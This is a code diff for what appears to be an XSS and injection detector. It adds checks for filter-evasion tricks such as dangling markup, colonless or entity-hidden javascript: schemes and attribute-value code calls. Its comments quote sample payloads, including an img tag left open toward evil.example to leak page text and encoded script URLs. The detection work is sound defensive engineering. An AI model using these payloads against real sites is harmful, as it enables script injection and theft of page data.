@@ -270,6 +270,13 @@ def _html(v: str, best: _Best, depth: int) -> None:
     tags = scan_tags(v)
     _breakout_markup(v, tags, best)
     closers = [t for t in tags if t.end_tag and t.name in _CONTEXT_CLOSERS]
+    closed_kinds = {t.name for t in closers}
+    if len(closed_kinds) >= 3 and not any(
+            c.isalnum() for a, b in zip(closers, closers[1:]) for c in v[a.end:b.start]):
+        # `</style/</title/</textarea/</script/--!>`: one value that ends every raw-text element the page
+        # might have put it in, back to back; text never needs that (a reflection probe, see _probe)
+        best.add(Severity.HIGH, "probe", closers[0].start, closers[-1].end,
+                 "ends " + ", ".join(f"</{k}>" for k in sorted(closed_kinds)) + " at once")
     judged: set[int] = set()  # attributes (by start) already judged: reads from nested "<" share them
     raw_checked = -1  # end of the tag text already read leniently (handler_in_tag ...)
     raw_reads = 0
@@ -293,6 +300,8 @@ def _html(v: str, best: _Best, depth: int) -> None:
                 continue
             judged.add(attr.start)
             _tag_attribute(v, name, attr, best, depth)
+        if not tag.closed and tag.attrs and tag.attrs[-1].end >= len(v):
+            _left_open(v, name, tag.attrs[-1], best)
         raw_end = min(tag.end, tag.start + 512)
         if (best.v is None or best.v.severity < Severity.HIGH) and raw_end > raw_checked \
                 and raw_reads < _MAX_RAW_READS:
@@ -572,15 +581,71 @@ def _tag_attribute(v: str, tag: str, attr: HtmlAttr, best: _Best, depth: int) ->
     if an in URL_ATTRIBUTES or _looks_like_script_url(value):
         hit = script_url(value if an != "content" else _meta_url(value))
         if not hit and an in URL_ATTRIBUTES:
-            hit = embedded_script_scheme(value)
+            hit = embedded_script_scheme(value) or _scheme_without_colon(value)
         if hit:
             best.add(Severity.HIGH, "script-url", attr.start, attr.end, f"<{tag} {an}={hit}>")
-        elif an in _LINK_ATTRIBUTES:
+            return
+        if an in _LINK_ATTRIBUTES:
             why = evasive_url(value)
+            if not why and value.startswith("``"):
+                why = "IE back-tick quoting"  # <a href=``calc``>: a quote only old IE honours, past quote filters
             if why:  # <a href="h tt\tp://6&#09;6.000146.0x7.147/">: a link spelled to pass a filter
                 best.add(Severity.HIGH, "evasive-link", attr.start, attr.end, f"<{tag} {an}=...> with {why}")
+                return
+    if ("(" in value or "`" in value) and (an not in _TEXT_ATTRIBUTES or value[:1] in "*/'\""):
+        # <body scroll=alert(1)>, <video poster=prompt(1)//>, <p title="*/prompt(1)'">: the value is a call
+        # that pops up or runs code (an attribute some page script evaluates, or a handler filter probe)
+        js = read_js(tokenize_js(decode_entities(value[:256]), 0, 48))
+        if js.sink and _strong(js.sink) and js.sink_index <= 2 and js.valid_until > js.sink_index + 2:
+            best.add(Severity.HIGH, "attribute-code", attr.start, attr.end, f"<{tag} {an}={js.sink}>")
 
 
+_DANGLING_SCHEMES = ("http://", "https://", "//", "\\\\", "ftp://")
+# URL attributes the browser fetches without a click (a link left open only leaks when followed,
+# and a cut-off comment with a link in it is ordinary)
+_LOADS_ON_ITS_OWN = frozenset({"src", "background", "poster", "lowsrc", "dynsrc", "data", "srcset"})
+
+
+def _left_open(v: str, tag: str, attr: HtmlAttr, best: _Best) -> None:
+    """The value ends inside a quoted URL attribute it opened.
+
+    `<img src="//evil.example/?` (dangling markup): the page's own text, up to its next
+    quote (CSRF tokens, e-mail addresses, messages), becomes part of the URL and goes to
+    that host, no script needed. `<img src='javasc` is a script URL cut short by a length
+    limit. An editor or a form never sends a tag with its attribute value left open."""
+    if not attr.has_value or attr.name not in _LINK_ATTRIBUTES:
+        return
+    eq = v.find("=", attr.start, attr.end)
+    k = eq + 1
+    while 0 < k < len(v) and v[k] in " \t\r\n":
+        k += 1
+    quote = v[k:k + 1]
+    if eq < 0 or quote not in ("'", '"') or quote in v[k + 1:]:
+        return
+    url = decode_entities(v[k + 1:k + 1 + 256]).strip().lower()
+    if url.startswith(_DANGLING_SCHEMES) and len(url) > 4 and attr.name in _LOADS_ON_ITS_OWN:
+        best.add(Severity.HIGH, "dangling-markup", attr.start, attr.end,
+                 f"<{tag} {attr.name}={quote}{url[:24]}... left open: the page's text goes to that host")
+        return
+    flat = url.translate(_SCHEME_STRIP)
+    if len(flat) >= 4 and any(s.startswith(flat) for s in ("javascript:", "vbscript:")):
+        best.add(Severity.HIGH, "script-url", attr.start, attr.end, f"<{tag} {attr.name}={quote}{flat}> (cut short)")
+
+
+def _scheme_without_colon(value: str) -> str:
+    """`javascript#alert(1)`, `javascript'+x+'`: a script scheme whose colon a filter took (or that
+    gets it from elsewhere) followed by code reaching a sink; '' otherwise. No URL starts so."""
+    low = value.lstrip("\\\"'` ").lower()
+    for scheme in ("javascript", "vbscript"):
+        if low.startswith(scheme) and low[len(scheme):len(scheme) + 1] in ("#", "'", "\"", "&", "/", ";"):
+            js = read_js(tokenize_js(low, len(scheme) + 1, 48))
+            if js.sink and js.valid_until > js.sink_index:
+                return f"{scheme} (colon missing) reaching {js.sink}"
+    return ""
+
+
+# Attributes that only hold text shown to the user (a title may quote code).
+_TEXT_ATTRIBUTES = frozenset({"title", "alt", "placeholder", "label", "aria-label", "summary", "abbr", "value"})
 # Attributes whose URL the browser navigates to or loads when markup is injected.
 _LINK_ATTRIBUTES = frozenset({"href", "src", "xlink:href", "action", "formaction", "background", "poster",
                               "data", "lowsrc", "dynsrc"})
@@ -691,6 +756,10 @@ def _url_value(v: str, best: _Best) -> None:
     for start in candidates:
         hit = script_url(v[start:])
         if not hit:
+            hidden = _scheme_hidden_by_references(v[start:start + 96])
+            if hidden:
+                best.add(Severity.HIGH, "script-url", start, len(v), f"{hidden} hidden with character references")
+                return
             continue
         if hit.startswith("data:"):
             best.add(Severity.HIGH, "script-url", start, len(v), hit + " URL")
@@ -722,6 +791,35 @@ def _url_value(v: str, best: _Best) -> None:
         js = read_js(tokenize_js(v[k + 7:]))
         if js.sink and js.valid_until > js.sink_index:
             best.add(Severity.HIGH, "script-url", max(0, k - 4), len(v), f"script URL reaching {js.sink}")
+
+
+def _scheme_hidden_by_references(head: str) -> str:
+    """`ja&tab;vascript&colon;`, `v&newline;b&tab;s...`: a script scheme with reference-shaped tokens
+    between its letters, in any case (a browser only decodes `&Tab;`, a filter or a later
+    case-folding layer may decode more); '' otherwise. Only there to hide the scheme from a filter."""
+    if "&" not in head[:12] or not head[:1].isalpha():
+        return ""
+    out: list[str] = []
+    i, n = 0, len(head)
+    while i < n and len(out) < 16:
+        c = head[i]
+        if c == "&":
+            j = i + 1
+            while j < n and j - i < 12 and (head[j].isalnum() or head[j] == "#"):
+                j += 1
+            name = head[i + 1:j].lower()
+            if head[j:j + 1] == ";" and name not in ("amp", "#38", "#x26"):  # AT&amp;T is a literal "&"
+                out.append(":" if name == "colon" else "")
+                i = j + 1
+                continue
+        if c > " ":
+            out.append(c.lower())
+        i += 1
+    flat = "".join(out)
+    for scheme in ("javascript:", "vbscript:", "livescript:"):
+        if flat.startswith(scheme):
+            return scheme
+    return ""
 
 
 _HEXDIGITS = frozenset("0123456789abcdefABCDEF")
@@ -1075,7 +1173,7 @@ def css_danger(text: str) -> str:
             return marker + "...)"
     if "url(data:" in css and any(t in css for t in ("text/html", "svg", "javascript")):
         return "url(data:...)"
-    if "-moz-binding:" in css:
+    if "-moz-binding:" in css or "binding:url(" in css:  # -moz-binding, and the unprefixed spelling probes try
         return "-moz-binding"
     if "behavior:" in css or "behaviour:" in css or "-ms-behavior:" in css or "behavior=url(" in css:
         return "behavior"
